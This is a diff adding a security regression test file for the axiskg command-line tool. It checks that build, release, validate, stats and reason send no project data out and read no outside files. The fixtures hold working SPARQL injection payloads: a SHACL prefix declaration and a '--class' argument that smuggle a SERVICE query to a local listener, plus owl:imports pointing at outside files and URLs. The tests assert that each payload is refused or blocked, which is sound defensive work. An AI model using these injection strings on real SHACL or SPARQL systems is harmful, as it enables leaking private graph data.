@@ -1,0 +1,121 @@
+"""Hostile input, round 3 (issue 25): no command sends project data anywhere or reads files
+outside what the user named. A TCP listener on 127.0.0.1 counts connections; every case runs
+the command as a user does (``python -m axiskg``), so the network sandbox is in place."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import time
+
+import pytest
+from test_hostile_cli import cli
+
+# A prefix declared on an owl:Ontology (pyshacl adds those to every query it runs) whose
+# namespace closes the IRI and carries a query that sends a label of the data to the listener;
+# the shape's own query looks empty, and its implicit class target sends it to pyshacl.
+ATTACK = """@prefix sh: <http://www.w3.org/ns/shacl#> .
+@prefix owl: <http://www.w3.org/2002/07/owl#> .
+@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
+@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
+<http://e/ont> a owl:Ontology ; sh:declare [ sh:prefix "zz" ;
+  sh:namespace "urn:zz> SELECT $this WHERE {{ <https://w3id.org/axiskg/id/actor/japan> ?p ?leak . SERVICE <http://127.0.0.1:{port}/x> {{ ?leak ?b ?c }} }} #"^^xsd:anyURI ] .
+<https://w3id.org/axiskg/ontology#Actor> a sh:NodeShape, rdfs:Class ;
+  sh:sparql [ sh:message "x" ; sh:prefixes <http://e/pfx> ; rdfs:seeAlso <http://e/ont> ; sh:select "# $this" ] .
+"""
+
+
+def _settle(listener, before: int) -> int:
+    time.sleep(0.3)
+    return listener.connections - before
+
+
+@pytest.mark.parametrize("command", ["build", "release", "validate"])
+def test_a_prefix_that_closes_its_iri_is_refused_before_any_query(project, listener, command):
+    (project / "ontology" / "shapes" / "evil.ttl").write_text(ATTACK.format(port=listener.port))
+    before = listener.connections
+    proc = cli(command, root=project, timeout=120)
+    assert _settle(listener, before) == 0
+    assert proc.returncode == 2, proc.stderr
+    assert (
+        "shapes: a sh:declare of <http://e/ont>: sh:namespace 'urn:zz> SELECT $this WHERE" in proc.stderr
+        and "is not an absolute IRI; refused before it is written into any query" in proc.stderr
+    )
+    assert not (project / "dist").exists()
+
+
+def test_a_prefix_name_that_carries_a_query_is_refused(project, listener):
+    shapes = project / "ontology" / "shapes" / "evil.ttl"
+    shapes.write_text(
+        "@prefix sh: <http://www.w3.org/ns/shacl#> .\n"
+        '<http://e/p> sh:declare [ sh:prefix "x: <urn:x> SELECT * WHERE { } #" ; sh:namespace "urn:y" ] .\n'
+    )
+    proc = cli("validate", root=project, timeout=120)
+    assert proc.returncode == 2
+    assert "a sh:declare of <http://e/p>: sh:prefix 'x: <urn:x> SELECT * WHERE { } #' is not a SPARQL prefix name" in (
+        proc.stderr
+    )
+
+
+# The same attack with the prefix check switched off: the operating system still keeps every
+# byte of the project on the machine (the sandbox of build and release).
+_WITHOUT_GATE = """
+import sys
+from axiskg import cli, shape_queries
+shape_queries.check_shapes = lambda g: None
+shape_queries._declaration = lambda g, d: (str(g.value(d, shape_queries.SH.prefix)), str(g.value(d, shape_queries.SH.namespace)))
+sys.argv = ["axiskg", "--root", sys.argv[1], sys.argv[2]]
+sys.exit(cli.main())
+"""
+
+
+@pytest.mark.parametrize("command", ["build", "release"])
+def test_build_and_release_run_off_the_network(project, listener, command):
+    (project / "ontology" / "shapes" / "evil.ttl").write_text(ATTACK.format(port=listener.port))
+    before = listener.connections
+    proc = subprocess.run(
+        [sys.executable, "-c", _WITHOUT_GATE, str(project), command], capture_output=True, text=True, timeout=120
+    )
+    assert _settle(listener, before) == 0, proc.stderr
+    assert "Network is unreachable" in proc.stderr or "Permission denied" in proc.stderr, proc.stderr[-2000:]
+    assert not (project / "dist").exists()
+
+
+def test_stats_runs_off_the_network(project, listener):
+    iri = f"http://www.w3.org/2002/07/owl#Class> . SERVICE <http://127.0.0.1:{listener.port}/> {{ ?x ?y ?z }} }} #"
+    before = listener.connections
+    proc = cli("stats", "--class", iri, root=project, timeout=120)
+    assert _settle(listener, before) == 0
+    assert proc.returncode == 2
+
+
+# --------------------------------------------------------------------------- owl:imports in reason
+
+SECRET_ONTOLOGY = """<?xml version="1.0"?>
+<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:owl="http://www.w3.org/2002/07/owl#"
+         xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">
+  <owl:Ontology rdf:about="http://e/secret"/>
+  <owl:Class rdf:about="http://e/Secret"><rdfs:subClassOf rdf:resource="http://www.w3.org/2002/07/owl#Nothing"/></owl:Class>
+</rdf:RDF>
+"""
+
+
+@pytest.mark.parametrize("only", [False, True])
+def test_reason_follows_no_owl_imports(project, tmp_path, listener, only):
+    """Neither a GET to the imported URL nor a read of an imported ``file:``: the unsatisfiable
+    class in the outside file would show (it did, with exit 1, before)."""
+    secret = tmp_path / "secret.rdf"
+    secret.write_text(SECRET_ONTOLOGY)
+    with (project / "ontology" / "core.ttl").open("a") as f:
+        f.write(
+            f"\n<https://w3id.org/axiskg/ontology> owl:imports <{secret.as_uri()}>, "
+            f"<http://127.0.0.1:{listener.port}/imported> .\n"
+        )
+    before = listener.connections
+    args = ["reason", "--only", str(project / "data" / "facts.ttl")] if only else ["reason"]
+    proc = cli(*args, root=project, timeout=180)
+    assert _settle(listener, before) == 0
+    assert proc.returncode == 0, proc.stderr
+    assert "Unsatisfiable classes: 0" in proc.stdout and "Secret" not in proc.stdout
+    assert f"axiskg: note: owl:imports <{secret.as_uri()}> not followed" in proc.stderr
+    assert f"owl:imports <http://127.0.0.1:{listener.port}/imported> not followed" in proc.stderr
